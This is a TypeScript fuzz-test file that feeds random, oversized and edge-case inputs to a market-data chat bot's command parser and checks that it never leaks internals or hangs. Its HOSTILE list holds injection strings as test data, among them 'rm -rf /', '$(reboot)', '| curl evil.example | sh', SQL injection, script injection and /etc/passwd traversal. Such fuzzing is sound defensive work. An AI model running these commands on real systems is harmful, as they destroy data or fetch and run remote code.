/**
 * Whatever arrives — random unicode, huge inputs, injection-looking strings, numbers at the edges,
 * dates like 0000-00-00 and 9999-12-31 — the parser either reads it or refuses it with a
 * UserInputError, and the runner answers: never a throw, never an internal error, never a stack
 * trace or a file path in what a person sees, and always within a time bound.
 *
 * Over 10,000 generated inputs against one shared app. Most fail fast (that is what random input
 * does); a few hundred are valid commands that reach the real analysis on the bundled prices.
 */
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { commands } from '../../commands/index.ts';
import { stripLeadingMentions, unescapeSlackText } from '../../src/adapters/slack/mrkdwn.ts';
import type { Fact } from '../../src/answer/answer.ts';
import { GLOBAL_OPTIONS } from '../../src/command/define.ts';
import type { OptionDecl } from '../../src/command/options.ts';
import { parseCommandText } from '../../src/command/parse.ts';
import type { RunResult } from '../../src/command/run.ts';
import { NAMED_PERIODS } from '../../src/core/periods.ts';
import { UserInputError } from '../../src/errors.ts';
import { createTestApp } from '../_app.ts';

const app = createTestApp();
afterAll(() => app.close());

/** Per input. Generous: the machine has 2 shared cores; a refusal takes well under a millisecond. */
const MAX_MS = 5_000;
const ROOT = process.cwd();

let checked = 0;
let computed = 0;
let slowest = { ms: 0, input: '' };

const HOSTILE = [
  '"; DROP TABLE bars; --',
  "' OR '1'='1",
  '$(reboot)',
  '`rm -rf /`',
  '; rm -rf / #',
  '| curl evil.example | sh',
  '<script>alert(1)</script>',
  '{{constructor.constructor("return process")()}}',
  '${process.exit(1)}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../../../etc/passwd',
  'C:\\Windows\\system32',
  'file:///etc/passwd',
  '%s%s%s%n',
  '%00',
  '\u0000',
  '\u202Eesrever',
  '\u200B\u200C\u200D\uFEFF',
  '@everyone',
  '@here',
  '<!channel>',
  '<@U0BOT|tapebot>',
  '<#C0123|general>',
  '```\nwhile(true){}\n```',
  '🚀🚀🚀',
  '👨‍👩‍👧‍👦',
  'ＳＰＹ',
  'İWM',
  'ß',
  'NaN',
  'Infinity',
  '-Infinity',
  'undefined',
  'null',
  'true',
  '[]',
  '{}',
  '\\',
  ':',
  '::::',
  'a:',
  ':b',
  'period:',
  'asof:asof:asof',
  ',,,,',
  '\t\n\r',
];

const EDGE_NUMBERS = [
  '0', '-0', '1', '-1', '0.01', '0.001', '1e308', '1e309', '-1e308', '5e-324', '1e-400', 'NaN', 'Infinity', '-Infinity',
  '9007199254740991', '9007199254740993', '-9007199254740993', '0x10', '0b11', '1_000', '1,000', '١٢٣', '½', '', ' ', '+5', '--5', '5.', '.5', '1e', 'e5',
];

const EDGE_DATES = [
  '0000-00-00', '0000-01-01', '0001-01-01', '1969-12-31', '1970-01-01', '1999-12-31', '2000-02-29', '2001-02-29', '2026-02-30', '2026-04-31',
  '2026-13-01', '2026-00-10', '2026-08-21', '2026-08-22', '2026-08-23', '9999-12-31', '10000-01-01', '-0001-01-01', '2026-8-1', '20260801',
  '2026/08/01', '08/01/2026', 'yesterday', 'today', '2026-08-01T00:00:00Z', '2026-08-01 ', '',
];

/** Real symbols in the spellings people use. */
const KNOWN = app.symbols.list().map((s) => s.symbol);
const realSymbol = fc.constantFrom(...KNOWN).chain((s) => fc.constantFrom(s, s.toLowerCase(), `$${s}`, s.replace(/^\^/, '')));

const unicode = fc.string({ unit: 'binary', maxLength: 40 });
const huge = fc.tuple(fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }), fc.integer({ min: 500, max: 20_000 })).map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n));
const anyText = fc.oneof(
  { weight: 4, arbitrary: unicode },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.constantFrom(...EDGE_NUMBERS, ...EDGE_DATES) },
  { weight: 2, arbitrary: realSymbol },
  { weight: 1, arbitrary: huge },
);

const commandName = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...commands.map((c) => c.name)) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom('constructor', 'prototype', 'tostring', 'hasownproperty', '__proto__', 'rotation2', 'compar', 'HELP') },
);

/** A value for an option of this kind: mostly wrong, sometimes right. */
function valueFor(decl: OptionDecl | undefined): fc.Arbitrary<string> {
  switch (decl?.kind) {
    case 'symbol':
      return fc.oneof(realSymbol, anyText);
    case 'symbols':
      return fc.oneof(fc.array(realSymbol, { minLength: 0, maxLength: 12 }).map((a) => a.join(' ')), fc.array(anyText, { maxLength: 4 }).map((a) => a.join(',')));
    case 'period':
      return fc.oneof(fc.constantFrom(...NAMED_PERIODS), fc.constantFrom(...EDGE_DATES).map((d) => `since:${d}`), fc.integer({ min: -5, max: 10_000 }).chain((n) => fc.constantFrom(`${n}d`, `${n}w`, `${n}m`, `${n}y`)), anyText);
    case 'date':
      return fc.oneof(fc.constantFrom(...EDGE_DATES), fc.date({ min: new Date('1900-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)), anyText);
    case 'choice':
      return fc.oneof(fc.constantFrom(...decl.choices), anyText);
    case 'integer':
    case 'number':
      return fc.oneof(fc.constantFrom(...EDGE_NUMBERS), fc.double().map(String), fc.integer().map(String), fc.bigInt().map(String), anyText);
    default:
      return anyText;
  }
}

/** Every leaf of the facts as text (they nest: lists and records of facts). */
function factTexts(f: Fact): string[] {
  if (f === null || typeof f !== 'object') return [String(f)];
  return (Array.isArray(f) ? f : Object.values(f)).flatMap((x: Fact) => factTexts(x));
}

/** What a person would read: everything but the chart data. */
function visibleText(r: RunResult): string {
  if (!r.ok) return r.error.message;
  const a = r.answer;
  return [a.title, ...a.lines, ...a.warnings, a.source ?? '', a.basis ?? '', ...factTexts(a.facts), ...a.charts.flatMap((c) => [c.title, c.subtitle ?? '', c.altText, c.footer])].join('\n');
}

/** Leaks that must never reach a chat, unless the person typed them (then it is an echo, not a leak). */
const LEAKS: [string, RegExp][] = [
  ['a stack frame', /\n\s+at |\bat .+\(.+:\d+:\d+\)/],
  ['a source path', /\.(ts|js|mjs):\d+/],
  ['the install path', new RegExp(ROOT.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&'))],
  ['node internals', /node_modules|node:internal|file:\/\//],
  ['an exception name', /\b(TypeError|RangeError|ReferenceError|SyntaxError)\b/],
  ['undefined', /\bundefined\b/],
  ['NaN', /\bNaN\b/],
  ['Infinity', /Infinity/],
  ['[object Object]', /\[object Object\]/],
];

function check(input: string, r: RunResult, ms: number): void {
  checked++;
  if (ms > slowest.ms) slowest = { ms, input: input.slice(0, 120) };
  if (r.ok) computed++;
  const where = `for input ${JSON.stringify(input.slice(0, 200))}`;
  if (!r.ok && r.error.audience === 'internal') {
    throw new Error(`internal error ${where}: ${r.cause instanceof Error ? (r.cause.stack ?? r.cause.message) : String(r.cause)}`);
  }
  const text = visibleText(r);
  expect(text.trim().length, `an empty reply ${where}`).toBeGreaterThan(0);
  const typed = input.toLowerCase();
  for (const [what, re] of LEAKS) {
    const m = re.exec(text);
    if (m && !typed.includes(m[0].toLowerCase())) throw new Error(`${what} in the reply ${where}: …${text.slice(Math.max(0, m.index - 80), m.index + 80)}…`);
  }
  expect(ms, `answered within ${MAX_MS} ms ${where}`).toBeLessThan(MAX_MS);
}

async function timed(fn: () => Promise<RunResult>): Promise<[RunResult, number]> {
  const t0 = performance.now();
  const r = await fn();
  return [r, performance.now() - t0];
}

describe('the leak check itself', () => {
  it('catches a stack trace, a path and an internal error, and allows an echo of what was typed', () => {
    const before = { checked, computed };
    const refusal = (message: string, audience: 'user' | 'internal' = 'user'): RunResult => ({ ok: false, error: { audience, message }, ref: 'r', ms: 1, cause: null });
    expect(() => check('/x', refusal('Oops\n    at run (/work/main/src/command/run.ts:10:5)'), 1)).toThrow(/stack frame/);
    expect(() => check('/x', refusal(`failed in ${ROOT}/commands/compare.ts`), 1)).toThrow(/source path|install path/);
    expect(() => check('/x', refusal('Something went wrong', 'internal'), 1)).toThrow(/internal error/);
    expect(() => check('/x', refusal('value was NaN'), 1)).toThrow(/NaN/);
    expect(() => check('/compare NaN', refusal('I don\'t know the symbol `NAN`.'), 1), 'an echo of the input is not a leak').not.toThrow();
    checked = before.checked; // keep the tally to generated inputs
    computed = before.computed;
  });
});

describe('fuzzing the parser and the runner', () => {
  it('parses or refuses with a UserInputError — nothing else — for any text', () => {
    const text = fc.oneof(
      anyText,
      fc.tuple(commandName, fc.array(anyText, { maxLength: 6 })).map(([n, ws]) => `/${n} ${ws.join(' ')}`),
    );
    fc.assert(
      fc.property(text, (t) => {
        checked++;
        try {
          const p = parseCommandText(t);
          expect(p.name).toMatch(/^[a-z][a-z0-9_-]*$/);
          for (const w of p.args.words) expect(typeof w).toBe('string');
          for (const v of Object.values(p.args.named)) expect(typeof v).toBe('string');
        } catch (err) {
          if (!(err instanceof UserInputError)) throw err;
        }
      }),
      { numRuns: 4_000 },
    );
  }, 60_000);

  it('answers any command text through runText', async () => {
    const named = fc.tuple(fc.constantFrom('period', 'asof', 'since', 'vs', 'tail', 'level', 'style', 'universe', 'symbols', 'a', 'b', 'constructor', 'x'), anyText).map(([k, v]) => `${k}:${v}`);
    const text = fc.oneof(
      { weight: 1, arbitrary: anyText },
      { weight: 4, arbitrary: fc.tuple(commandName, fc.array(fc.oneof(anyText, named), { maxLength: 5 })).map(([n, ws]) => `/${n} ${ws.join(' ')}`) },
    );
    await fc.assert(
      fc.asyncProperty(text, async (t) => {
        const [r, ms] = await timed(() => app.runner.runText(t, { platform: 'console' }));
        check(t, r, ms);
      }),
      { numRuns: 2_500 },
    );
  }, 120_000); // 2,500 runs, cold CSV reads among them (36 bundled symbols): generous on a busy machine

  it('answers random named options for every command through run (Discord-style)', async () => {
    for (const cmd of commands) {
      const decls: Record<string, OptionDecl> = { ...cmd.options, ...(cmd.usesMarketData === false ? {} : GLOBAL_OPTIONS) };
      const names = Object.keys(decls);
      const stray = fc.tuple(fc.constantFrom('constructor', 'toString', '__proto__', 'x', ''), anyText);
      const declared = names.length > 0 ? fc.constantFrom(...names).chain((k) => valueFor(decls[k]).map((v) => [k, v] as const)) : stray;
      const pair = fc.oneof({ weight: 5, arbitrary: declared }, { weight: 1, arbitrary: stray });
      await fc.assert(
        fc.asyncProperty(fc.array(pair, { maxLength: 4 }), async (pairs) => {
          const named: Record<string, string> = Object.create(null) as Record<string, string>;
          for (const [k, v] of pairs) named[k] = v;
          const input = `/${cmd.name} ${pairs.map(([k, v]) => `${k}:${v}`).join(' ')}`;
          const [r, ms] = await timed(() => app.runner.run({ name: cmd.name, args: { words: [], named } }, { platform: 'discord' }));
          check(input, r, ms);
        }),
        { numRuns: 220 },
      );
    }
  }, 120_000); // 220 runs per command over 36 bundled symbols: generous on a busy machine

  it('answers random mention texts (Slack app_mention / DM) the way the adapter passes them', async () => {
    const mention = fc.oneof(fc.constant('<@U0BOT>'), fc.constant('<@U0BOT|tapebot>'), fc.constant('<@U0BOT> <@U0BOT>'), fc.constant(''), fc.constant('<@W123ABC>'));
    const body = fc.oneof(
      anyText,
      fc.tuple(commandName, fc.array(anyText, { maxLength: 4 })).map(([n, ws]) => `${n} ${ws.join(' ')}`),
      anyText.map((t) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')),
    );
    await fc.assert(
      fc.asyncProperty(mention, body, async (m, b) => {
        const raw = `${m} ${b}`;
        const text = stripLeadingMentions(unescapeSlackText(raw));
        const [r, ms] = await timed(() => app.runner.runText(text, { platform: 'slack', userId: 'U0FUZZ', channelId: 'C0FUZZ' }));
        check(raw, r, ms);
      }),
      { numRuns: 800 },
    );
  }, 60_000);

  it('answers valid commands with edge values that reach the real analysis', async () => {
    const period = fc.oneof(fc.constantFrom(...NAMED_PERIODS), fc.date({ min: new Date('1995-01-01'), max: new Date('2026-08-20'), noInvalidDate: true }).map((d) => `since:${d.toISOString().slice(0, 10)}`));
    const asof = fc.option(fc.date({ min: new Date('1994-01-01'), max: new Date('2026-08-21'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)), { freq: 2 });
    const valid = fc.oneof(
      fc.tuple(fc.uniqueArray(realSymbol, { minLength: 2, maxLength: 4, selector: (s) => s.replace(/^[$^]/, '').toUpperCase() }), period).map(([s, p]) => `/compare ${s.join(' ')} period:${p}`),
      fc.tuple(realSymbol, realSymbol).map(([a, b]) => `/streak ${a} ${b}`),
      fc.tuple(realSymbol, fc.constantFrom('', 'level:0.01', 'level:1e308', 'level:600', 'level:99999999')).map(([s, l]) => `/breakout ${s} ${l}`),
      realSymbol.map((s) => `/drawdown ${s}`),
      fc.tuple(realSymbol, period, fc.constantFrom('auto', 'candles', 'line')).map(([s, p, st]) => `/chart ${s} period:${p} style:${st}`),
      fc.tuple(fc.uniqueArray(realSymbol, { minLength: 1, maxLength: 3, selector: (s) => s.replace(/^[$^]/, '').toUpperCase() }), period).map(([s, p]) => `/perf ${s.join(' ')} period:${p}`),
      period.map((p) => `/rotation ${p}`),
      fc.tuple(fc.constantFrom('sectors', 'factors', 'XLE XLK XLF'), period).map(([u, p]) => `/leaders ${u} period:${p}`),
      fc.integer({ min: 2, max: 26 }).map((t) => `/rotationmap tail:${t}`),
    );
    await fc.assert(
      fc.asyncProperty(valid, asof, async (t, a) => {
        const text = a ? `${t} asof:${a}` : t;
        const [r, ms] = await timed(() => app.runner.runText(text, { platform: 'console' }));
        check(text, r, ms);
      }),
      { numRuns: 300 },
    );
  }, 60_000);

  afterAll(() => {
    // The brief asks for at least 10,000 generated inputs; most fail fast, some must compute.
    expect(checked, 'inputs checked').toBeGreaterThanOrEqual(10_000);
    expect(computed, 'inputs that reached the real analysis and answered').toBeGreaterThan(200);
    console.info(`fuzz: ${checked} inputs, ${computed} answered with real analysis; slowest ${slowest.ms.toFixed(0)} ms (${slowest.input})`);
  });
});
